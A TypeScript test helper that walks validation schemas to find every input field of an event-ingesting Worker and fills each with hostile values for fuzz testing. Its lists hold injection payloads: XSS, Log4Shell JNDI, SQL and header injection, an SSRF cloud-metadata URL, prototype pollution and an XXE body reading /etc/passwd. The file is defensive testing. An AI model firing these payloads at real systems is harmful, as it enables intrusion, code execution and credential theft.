import * as v from "valibot";

/**
 * Where text can enter, found by walking the schemas that parse it, and what hostile senders put there. Knows no platform,
 * so that tests of core and tests of the whole Worker go through the same places with the same texts.
 */

type Schema = v.GenericSchema;
/** What is read of a schema while it is walked; each kind of schema has some of it. */
type Node = Schema & {
  readonly entries?: Readonly<Record<string, Schema>>;
  readonly item?: Schema;
  readonly key?: Schema | string;
  readonly value?: Schema;
  readonly options?: readonly unknown[];
  readonly wrapped?: Schema;
  readonly literal?: unknown;
};

/** One place of a document: a text, the name of a field that the sender chooses, or a value that is no text at all. */
export type Place = {
  readonly pointer: string;
  readonly takes: "text" | "name" | "other";
  /** A document that is right but for what stands at this place. */
  readonly fill: (value: unknown) => unknown;
};

/** Texts of which one fits nearly every pattern; the first that passes is the example. */
const TEXTS = ["a1", "EUR", "de", "rfc3339", "https://shop.example", "https://hooks.shop.example/in", "Z"];
const FITTING = [
  ...TEXTS,
  "a".repeat(64),
  "2026-05-01T10:00:00Z",
  "a-secret-of-sixteen",
  "UTC",
  "21:00",
  "43",
];
const NUMBERS = [1, 2, 20, 0.5, 1_700_000_000_000];

const isOptional = (schema: Schema): boolean =>
  ["optional", "exact_optional", "nullish", "undefinedable"].includes(schema.type);

/** A right document of a schema, with nothing that may be left out. */
export function exampleOf(schema: Schema): unknown {
  const node = schema as Node;
  const passing = (candidates: readonly unknown[]): unknown =>
    candidates.find((one) => v.safeParse(schema, one).success);
  switch (node.type) {
    case "string":
      return passing(FITTING);
    case "number":
      return passing(NUMBERS);
    case "boolean":
      return passing([true, false]);
    case "literal":
      return node.literal;
    case "picklist":
      return node.options![0];
    case "array":
      return passing([
        [],
        [exampleOf(node.item!)],
        [exampleOf(node.item!), other(node.item!)],
        [exampleOf(node.item!), exampleOf(node.item!)],
      ]);
    case "record":
      return {};
    case "union":
    case "variant":
      return passing([...node.options!.map((one) => exampleOf(one as Schema)), ...FITTING, ...NUMBERS]);
    default:
      if (node.wrapped) return exampleOf(node.wrapped);
      return node.entries ? objectOf(schema, node.entries) : "a1";
  }
}

/** An object with what it must have; where that is not right, as when it must name something, with one field more. */
function objectOf(schema: Schema, entries: Readonly<Record<string, Schema>>): unknown {
  const least = leastOf(entries);
  if (v.safeParse(schema, least).success) return least;
  const more = Object.entries(entries).map(([name, inner]) => ({ ...least, [name]: exampleOf(inner) }));
  return more.find((one) => v.safeParse(schema, one).success) ?? least;
}

/** What an object must have, and nothing else. */
const leastOf = (entries: Readonly<Record<string, Schema>>): object =>
  Object.fromEntries(
    Object.entries(entries)
      .filter(([, inner]) => !isOptional(inner))
      .map(([name, inner]) => [name, exampleOf(inner)]),
  );

/** A second entry beside the example, for lists whose entries must differ in their ids. */
function other(schema: Schema): unknown {
  const first = exampleOf(schema);
  return typeof first === "object" && first !== null && "id" in first ? { ...first, id: "a2" } : "a2";
}

/** Every place of a schema, however deep. */
export function placesOf(schema: Schema): Place[] {
  const node = schema as Node;
  switch (node.type) {
    case "string":
      return [{ pointer: "", takes: "text", fill: (value) => value }];
    case "array": {
      const known = exampleOf(schema) as readonly unknown[];
      return placesOf(node.item!).map((place) => ({
        ...place,
        pointer: `/0${place.pointer}`,
        fill: (value) => [place.fill(value), ...known.slice(1)],
      }));
    }
    case "record": {
      const key = exampleOf(node.key as Schema) as string;
      const value = exampleOf(node.value!);
      const named: Place = { pointer: "/*", takes: "name", fill: (name) => entry(nameOf(name), value) };
      return [named, ...under(key, node.value!, (inner) => entry(key, inner))];
    }
    case "union":
    case "variant":
      return node.options!.flatMap((one) => placesOf(one as Schema));
    default: {
      if (node.wrapped) return placesOf(node.wrapped);
      if (!node.entries) return [{ pointer: "", takes: "other", fill: (value) => value }];
      const known = exampleOf(schema) as object;
      const least = leastOf(node.entries);
      const inside = Object.entries(node.entries).flatMap(([name, inner]) => {
        const isEnough = v.safeParse(schema, { ...least, [name]: exampleOf(inner) }).success;
        return under(name, inner, (value) => ({ ...(isEnough ? least : known), [name]: value }));
      });
      const unheard: Place = {
        pointer: "/*",
        takes: "name",
        fill: (name) => ({ ...known, ...entry(nameOf(name), 1) }),
      };
      return [...inside, unheard];
    }
  }
}

const under = (name: string, schema: Schema, wrap: (value: unknown) => unknown): Place[] =>
  placesOf(schema).map((place) => ({
    ...place,
    pointer: `/${name}${place.pointer}`,
    fill: (value) => wrap(place.fill(value)),
  }));

/** Any value as the name of a field; `String` throws for `{ "toString": "" }`, which JSON may well bring. */
const nameOf = (value: unknown): string =>
  typeof value === "string" ? value : (JSON.stringify(value) ?? "");

/** An object of one field of its own, whatever it is called. */
const entry = (name: string, value: unknown): object => Object.fromEntries([[name, value]]);

/** The texts of a document that no schema describes, each as a place; and each name. */
export function leavesOf(document: unknown): Place[] {
  if (typeof document === "string") return [{ pointer: "", takes: "text", fill: (value) => value }];
  if (document === null || typeof document !== "object") return [];
  const isList = Array.isArray(document);
  return Object.entries(document).flatMap(([name, inner]) => {
    const wrap = (value: unknown): unknown =>
      isList
        ? (document as readonly unknown[]).map((one, i) => (String(i) === name ? value : one))
        : { ...document, [name]: value };
    const inside = leavesOf(inner).map((place) => ({
      ...place,
      pointer: `/${name}${place.pointer}`,
      fill: (value: unknown) => wrap(place.fill(value)),
    }));
    if (isList) return inside;
    const { [name]: _left, ...rest } = document as Record<string, unknown>;
    const named: Place = {
      pointer: `/${name}*`,
      takes: "name",
      fill: (value) => ({ ...rest, ...entry(nameOf(value), inner) }),
    };
    return [...inside, named];
  });
}

/** How a text lies where it is kept: exactly, but that addresses of pages go without query and fragment. */
export const storedForm = (pointer: string, text: string): string =>
  /(^|\/)page\/(url|referrer)$/.test(pointer) ? text.split(/[?#]/, 1)[0]! : text;

/** The shared vectors, as far as they are here. */
export type Vectors = {
  readonly badIds: { readonly ids: readonly string[] } | null;
  readonly bodies: { readonly bodies: readonly { readonly name: string; readonly raw: string }[] } | null;
  readonly cells: { readonly cells: readonly string[] } | null;
  readonly moments: { readonly values: readonly unknown[] } | null;
  /** Lines of the files of IAB strings and of Segment's samples. */
  readonly tcf: string | null;
  readonly gpp: string | null;
  readonly segment: string | null;
};

const lines = (text: string | null): string[] => (text ?? "").split("\n").filter((line) => line !== "");

/** Texts that fit none, or all too well: made to mislead readers, parsers, templates, shells, spreadsheets and limits. */
const OWN_TEXTS: readonly string[] = [
  "\ufeffmark of byte order",
  "zero\u200bwidth\u200djoined\u00adtext",
  "\u2066isolated\u2069 and \u202eoverridden",
  "line\u2028and paragraph\u2029apart",
  "nai\u0308ve, decomposed",
  "\ud835\udc9cstral \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 family",
  "  blanks around it  ",
  "tab\tand\r\nlines\nin one",
  "escape \u001b[31mred\u001b[0m \u0007bell",
  "high\ud800alone",
  "low\udc00alone",
  "nul\u0000inside the text",
  "%00%0d%0aSet-Cookie:%20a=b",
  "a\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
  "</script><script>alert(1)</script>",
  "{{constructor.constructor('return this')()}}",
  "${jndi:ldap://x.example/a}",
  "script::java.lang.Runtime.getRuntime()",
  '{"$ne":null,"admin":true}',
  "[object Promise]",
  "__defineGetter__",
  "__lookupSetter__",
  "toJSON",
  "then",
  "valueOf",
  "'); DROP TABLE log; --",
  "https://user:secret-word@shop.example/path?token=hunter2secret#part",
  "javascript:alert(document.cookie)",
  "//evil.example/path",
  "data:text/html;base64,PHNjcmlwdD4=",
  "http://169.254.169.254/latest/meta-data/",
  "jane.miller@mail.example",
  "+49 170 1234567",
  "9007199254740993",
  "1e400",
  "Infinity",
  ...[64, 65, 128, 129, 256, 257, 512, 513, 1024, 1025, 2048, 2049, 4096, 4097, 16_384, 16_385].map(
    (length) => "abcdefghij".repeat(Math.ceil(length / 10)).slice(0, length),
  ),
  `${"x".repeat(127)}\u00e9`,
  `${"x".repeat(63)}\ud83d\ude00`,
];

/** Every hostile text there is. */
export function hostileTexts(vectors: Vectors): string[] {
  return [
    ...new Set([
      ...(vectors.badIds?.ids ?? []),
      ...(vectors.cells?.cells ?? []),
      ...lines(vectors.tcf).slice(0, 4),
      ...lines(vectors.gpp).slice(0, 4),
      ...(vectors.moments?.values ?? []).filter((one) => typeof one === "string"),
      ...lines(vectors.segment)
        .map((line) => (JSON.parse(line) as { payload?: unknown; raw?: unknown }).raw)
        .filter((raw) => typeof raw === "string"),
      ...OWN_TEXTS,
    ]),
  ];
}

/** One of each kind, for places that are many and cost a request each. */
export const sharpTexts = (vectors: Vectors): string[] =>
  hostileTexts(vectors).filter(
    (text, i) => (OWN_TEXTS.includes(text) && text.length < 200) || text.length > 16_000 || i % 7 === 0,
  );

/** An object nested so deep. @example nested(2) // {"a":{"a":1}} */
export function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** What is no text, or no number that anybody meant. */
export function oddValues(vectors: Vectors): unknown[] {
  return [
    null,
    true,
    [],
    {},
    [[]],
    [null],
    { $ne: null },
    { toString: "a long enough text" },
    -1,
    -0,
    0.1 + 0.2,
    1e308,
    5e-324,
    2 ** 53 + 2,
    -(2 ** 63),
    1e21,
    nested(12),
    nested(40),
    Object.fromEntries(Array.from({ length: 5_001 }, (_, i) => [`k${i}`, 1])),
    Array.from({ length: 5_001 }, () => 0),
    JSON.parse('{"__proto__":{"admin":true}}') as unknown,
    { constructor: { prototype: { admin: true } } },
    ...(vectors.moments?.values ?? []).filter((one) => typeof one === "number"),
  ];
}

/** Whole bodies, as bytes where text cannot say it. */
export function hostileBodies(vectors: Vectors): (readonly [name: string, body: string | Uint8Array])[] {
  const utf16 = new Uint8Array([0xff, 0xfe, ...[...'{"a":1}'].flatMap((one) => [one.charCodeAt(0), 0])]);
  return [
    ...(vectors.bodies?.bodies ?? []).map(({ name, raw }) => [name, raw] as const),
    ["UTF-16", utf16],
    ["half a character", new Uint8Array([0x7b, 0x22, 0xc3, 0x22, 0x3a, 0x31, 0x7d])],
    ["overlong slash", new Uint8Array([0x22, 0xc0, 0xaf, 0x22])],
    ["a surrogate in UTF-8", new Uint8Array([0x22, 0xed, 0xa0, 0x80, 0x22])],
    ["compressed", new Uint8Array([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0])],
    ["nested arrays", "[".repeat(20_000) + "]".repeat(20_000)],
    ["nested objects", '{"a":'.repeat(20_000) + "1" + "}".repeat(20_000)],
    ["never closed", '{"a":'.repeat(20_000)],
    ["many keys", JSON.stringify(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`${i}`, 0])))],
    ["a long number", `{"a":${"9".repeat(10_000)}}`],
    ["a small number", `{"a":0.${"0".repeat(10_000)}1}`],
    ["single quotes", "{'an-honest-field':1}"],
    ["a trailing comma", '{"a":1,}'],
    ["a bare word", "undefined-as-a-body"],
    ["a form", "key=value-of-a-form&other=value"],
    ["XML with an entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ["a text of 600,000 characters", `"${"x".repeat(600_000)}"`],
  ];
}

/** Pieces of eight characters of a text: enough to recognize it by, where it comes back. All of them, of long texts some. */
export function piecesOf(text: string): string[] {
  const last = text.length - 8;
  const step = Math.max(1, Math.floor(last / 64));
  return Array.from({ length: Math.max(0, Math.floor(last / step) + 1) }, (_, i) =>
    text.slice(i * step, i * step + 8),
  );
}

/** Every text in a JSON value, names of fields too; a text that is exactly `except` is left out. */
export function textsIn(value: unknown, except?: string): string[] {
  if (typeof value === "string") return value === except ? [] : [value];
  if (value === null || typeof value !== "object") return [];
  return Object.entries(value).flatMap(([name, one]) => [
    ...(Array.isArray(value) || name === except ? [] : [name]),
    ...textsIn(one, except),
  ]);
}
